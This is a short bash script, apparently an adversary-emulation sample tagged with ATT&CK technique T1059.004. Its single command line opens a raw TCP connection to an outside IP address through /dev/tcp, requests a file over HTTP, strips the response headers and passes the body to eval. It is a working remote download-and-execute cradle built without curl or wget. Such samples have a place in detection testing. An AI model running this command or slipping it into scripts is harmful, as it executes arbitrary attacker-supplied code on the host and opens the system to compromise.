#!/bin/bash
# T1059.004: A shell alone fetches a script from outside and runs it.
exec 5<>/dev/tcp/44.128.66.66/80; printf 'GET /x HTTP/1.0\r\n\r\n' >&5; s=$(cat <&5); eval "$(sed 1,/^.$/d <<<"$s")"
